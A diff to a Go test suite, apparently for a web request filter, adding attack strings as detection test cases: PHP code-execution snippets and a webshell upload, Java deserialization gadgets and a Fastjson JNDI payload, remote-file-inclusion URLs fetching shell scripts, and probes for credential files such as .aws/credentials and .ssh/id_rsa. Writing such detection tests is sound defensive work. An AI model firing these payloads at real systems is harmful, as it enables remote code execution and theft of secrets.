@@ -95,6 +95,16 @@ func grammarAttacks() map[string][]string {
 		"{{request.application.__globals__}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", `<#assign ex="freemarker.template.utility.Execute"?new()>`, "#set($x=1)", "{{constructor.constructor('return 1')()}}",
 		"{{''.__class__.__mro__}}", "@(1+2)", "{{= 7*7}}", "{% debug %}", "{{dump(app)}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "<%= system('id') %>", "${product.getClass()}", "#{session.getAttribute('x')}"}
 
+	// PHP code by its syntax: open tags with a statement, variable
+	// variables, calls split by comments or suppressed with @.
+	for _, f := range []string{"exec", "system", "passthru", "eval", "base64_decode", "phpinfo"} {
+		m["php"] = append(m["php"], "<? "+f+"('id'); ?>", "<?php\t"+f+"($x);", f+"/**/('id')", f+"/*x*/ /*y*/(1)", f+"#c\n('id')", f+"//c\n('id')", f+"\r($x)")
+	}
+	m["php"] = append(m["php"], "@exec('id')", "@system('ls')", "${'a'.'b'}", "$ {'_VAR'}", "[php]echo 1;[/php]", "{php}echo 1;{/php}", "<?=$_GET[0]?>")
+	// Java process, script-engine and gadget classes, and Fastjson @type.
+	m["java"] = []string{"java.lang.Runtime", "java.lang.ProcessBuilder", "javax.script.ScriptEngineManager", "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.rowset.JdbcRowSetImpl",
+		"org.codehaus.groovy.runtime.MethodClosure", "ognl.OgnlContext", "#_memberAccess[\"allowStaticMethodAccess\"]=true", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}`, "java.beans.XMLDecoder"}
+
 	// NoSQL operators in JSON strings and bracket notation values.
 	m["nosqli"] = []string{`{"$ne": null}`, `{"$gt": ""}`, `{"$regex": ".*"}`, `{"$where": "sleep(100)"}`, `'; return true; var x='`, `{"$or": [{}, {"a": "a"}]}`, `{"$expr": {"$eq": [1, 1]}}`}
 
@@ -102,6 +112,7 @@ func grammarAttacks() map[string][]string {
 	m["redirect"] = []string{"/\\evil.example", "\\\\evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example", "///evil.example", "//%2fevil.example", "/%09/evil.example", " //evil.example", "\t//evil.example", "https://trusted.example@evil.example", "javascript:alert(1)", "http:\\\\evil.example"}
 
 	// SSRF in fetch-like parameters (sent as "url").
+	m["rfi"] = []string{"http://203.0.113.5/shell.txt", "http://198.51.100.7:8080/x.php", "ftp://203.0.113.9/inc/c99.php?", "http://[2001:db8::1]/r57.txt"}
 	m["ssrf"] = []string{"http://127.0.0.1/", "http://localhost:8080/admin", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/", "http://0.0.0.0:22/", "http://10.0.0.5/internal", "http://192.168.1.1/", "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "http://evil.example@127.0.0.1/", "http://[::ffff:127.0.0.1]/", "http://localtest.me/"}
 	return m
 }
@@ -112,6 +123,9 @@ func grammarPaths() []string {
 	var out []string
 	for _, f := range []string{".git/config", ".git/HEAD", ".svn/entries", ".svn/wc.db", ".hg/hgrc", ".env", ".env.production", ".aws/credentials", ".ssh/id_rsa", ".htpasswd", "WEB-INF/web.xml", "META-INF/MANIFEST.MF", "backup.zip", "db.sql", "dump.sql.gz", "site.tar.gz", "wp-config.php.bak", "index.php~", "config.php.swp", "server-status", "actuator/env", "actuator/heapdump", "phpinfo.php", ".DS_Store", "terraform.tfstate", "jmx-console/", "manager/html"} {
 		out = append(out, "/"+f, "/app/"+f, "/static/..;/"+f, "/%2e/"+f, "/./"+f, "/"+strings.ToUpper(f[:1])+f[1:])
+	}
+	for _, d := range []string{".vscode", ".idea", ".config/gcloud", ".someagent", ".tool"} {
+		out = append(out, "/"+d+"/settings.json", "/app/"+d+"/credentials.db", "/"+d+"/secrets.env")
 	}
 	return out
 }
@@ -156,7 +170,7 @@ func TestGrammarAttacks(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	param := map[string]string{"redirect": "next", "ssrf": "url"}
+	param := map[string]string{"redirect": "next", "ssrf": "url", "rfi": "src"}
 	for class, payloads := range grammarAttacks() {
 		name := param[class]
 		if name == "" {
@@ -284,6 +298,7 @@ func TestContextAttacks(t *testing.T) {
 		{"GraphQL alias brute force", newReq("POST", "/graphql", "application/json", gql.String())},
 		{"webshell upload", multipartUpload("avatar", "shell.php.jpg", "GIF89a<?php system($_GET['c']); ?>")},
 		{"script upload", multipartUpload("doc", "report.phtml", "hello")},
+		{"script name in an upload header", newReq("PUT", "/upload", "application/octet-stream", "x", "X-File-Name", "photo. php")},
 		{"file URI with a glob", newReq("GET", "/fetch?src="+url.QueryEscape("file:///etc/*"), "", "")},
 		{"overlong UTF-8 traversal", newReq("GET", "/static/%f0%80%80%ae%f0%80%80%ae/%f0%80%80%ae%f0%80%80%ae/etc/passwd", "", "")},
 	}
